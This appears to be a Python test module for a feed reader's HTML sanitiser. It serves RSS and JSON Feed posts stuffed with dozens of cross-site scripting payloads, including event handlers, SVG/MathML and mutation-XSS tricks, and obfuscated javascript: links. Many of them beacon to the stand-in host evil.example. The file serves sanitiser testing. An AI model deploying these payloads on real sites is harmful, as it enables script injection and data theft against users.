"""Posts written by an enemy, and the town that reads them."""

import json
from collections.abc import Sequence
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from conftest import Answer, Site

EVIL = "http://evil.example/x"
RUN = f"window.pwned=1;new Image().src=`{EVIL}`"
ON = f"img src=1 onerror={RUN}"
OWN = (
    # Elements that run or fetch by themselves.
    f"<script>{RUN}</script>",
    f"<script src={EVIL}></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={EVIL}.png srcset='{EVIL}1.png 1x, {EVIL}2.png 2x'>",
    f"<picture><source srcset={EVIL}><img src={EVIL} loading=eager></picture>",
    f"<video src={EVIL} poster={EVIL} autoplay></video><audio src={EVIL} autoplay></audio>",
    f"<video><source src={EVIL}><track src={EVIL} default></video>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}><applet code={EVIL}></applet>",
    f"<link rel=stylesheet href={EVIL}><link rel=preload as=image href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<style>@import '{EVIL}';body{{background:url({EVIL})}}</style>",
    f"<p style='background:url({EVIL})'>style</p><table background={EVIL}><td>t</table>",
    f"<body background={EVIL} onload='{RUN}'>",
    f"<base href={EVIL}/><a href=relatif>base</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f'<form action={EVIL}><input autofocus onfocus="{RUN}"><button>go</button></form>',
    f'<details open ontoggle="{RUN}"><summary>d</summary></details>',
    f'<marquee onstart="{RUN}">m</marquee><input type=image src={EVIL}>',
    f'<p onmouseover="{RUN}" onanimationstart="{RUN}" style="animation:x 1s">p</p>',
    # Foreign content.
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><script>{RUN}</script><image href={EVIL} /><use href='{EVIL}#x'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>svg</text></a></svg>",
    f"<svg><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
    f"<math href='javascript:{RUN}'><mtext><style><img src={EVIL}></style></mtext></math>",
    # Mutation: harmless when first read, harmful when read again.
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;{ON}&gt;">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    f'<listing>&lt;img src=x onerror="{RUN}"&gt;</listing><xmp><img src={EVIL}></xmp>',
    f'<!--><img src=x onerror="{RUN}">--><!--!><img src={EVIL}>',
    f'<![CDATA[><img src=x onerror="{RUN}">]]><plaintext><img src={EVIL}>',
    f"<a title='&quot;><img src=x onerror={RUN}>'>entités</a>",
    f"&lt;{ON}&gt; &amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt; &amp;lt;{ON}&amp;gt;",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f'<scr\x00ipt>{RUN}</scr\x00ipt><IMG SRC=x ONERROR\x0c="{RUN}">'.replace(
        "\x00", "\u200b"
    ).replace("\x0c", " "),
    # Addresses.
    f'<a href="java\tscript:{RUN}">t</a><a href=" \njavascript:{RUN}">n</a>',
    f"<a href='JaVaScRiPt&colon;{RUN}'>c</a><a href='javascript&#58;{RUN}'>e</a>",
    f"<a href='vbscript:x'>v</a><a href='data:text/html,<script>{RUN}</script>'>d</a>",
    f"<a href='blob:{EVIL}'>b</a><a href='//evil.example' ping={EVIL} target=_top>p</a>",
    f"<a href='\u2028javascript:{RUN}'>u</a><a href='feed:javascript:{RUN}'>f</a>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u202e{EVIL}\u202c",
)


def payloads(corpus: Path) -> list[str]:
    """Ours, and those of the corpus: short ones and whole pages."""
    tests = sorted((corpus / "sanitiser" / "bleach").glob("*.test.txt"))
    short = [path.read_text("utf-8").partition("\n--\n")[0] for path in tests]
    pages = sorted((corpus / "sanitiser" / "miniflux").iterdir())
    return [*OWN, *short, *(page.read_text("utf-8") for page in pages)]


def serve_hostile_town(folder: Path, site: Site, attacks: Sequence[str]) -> Path:
    """Serve the posts as RSS and as JSON Feed, and write a town that shows them whole."""
    site.pages["/rss.xml"] = Answer(body=_rss(attacks).encode(), content_type="text/xml")
    site.pages["/feed.json"] = Answer(body=_json(attacks).encode(), content_type="text/html")
    sources = "".join(
        f"  - {{slug: {slug}, name: 'Ennemi <script>alert(1)</script> {slug}', kind: blog,"
        f" url: '{site.url('/')}', feed: '{site.url(path)}', display: full}}\n"
        for slug, path in (("rss", "/rss.xml"), ("json", "/feed.json"))
    )
    (folder / "sources.yaml").write_text(
        "version: 1\ntown: {name: Essai, timezone: Europe/Paris, contact: essai@example.org}\n"
        f"tabs: [{{slug: blogs, name: Les blogs, kinds: [blog]}}]\nsources:\n{sources}",
        encoding="utf-8",
    )
    return folder


def _rss(attacks: Sequence[str]) -> str:
    items = "".join(
        f"<item><guid isPermaLink='false'>r{number}</guid><link>{escape(_link(number))}</link>"
        f"<title>piège {number} {escape(attack[:2_000])}</title>"
        f"<author>{escape(attack[:500])}</author><dc:creator>{escape(attack[:500])}</dc:creator>"
        f"<category domain={quoteattr(attack[:200])}>{escape(attack[:200])}</category>"
        f"<description>{escape(attack)}</description>"
        f"<content:encoded>piège {number} {escape(attack)}</content:encoded>"
        f"<pubDate>Tue, {number % 27 + 1:02d} Oct 2026 18:30:00 +0100</pubDate></item>"
        for number, attack in enumerate(attacks)
    )
    return (
        "<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'"
        f" xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><title>x</title>{items}"
        "</channel></rss>"
    )


def _json(attacks: Sequence[str]) -> str:
    items = [
        {
            "id": f"j{number}",
            "url": _link(number),
            "title": f"piège {number} {attack[:2_000]}",
            "content_html": attack,
            "summary": attack[:500],
            "image": EVIL,
            "authors": [{"name": attack[:500], "url": f"javascript:{RUN}"}],
            "tags": [attack[:200]],
            "date_published": "2026-09-01T10:00:00Z",
        }
        for number, attack in enumerate(attacks)
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": items})


def _link(number: int) -> str:
    return f"javascript:{RUN}" if number % 7 == 0 else f"/billet/{number}?a=\"'<b>"
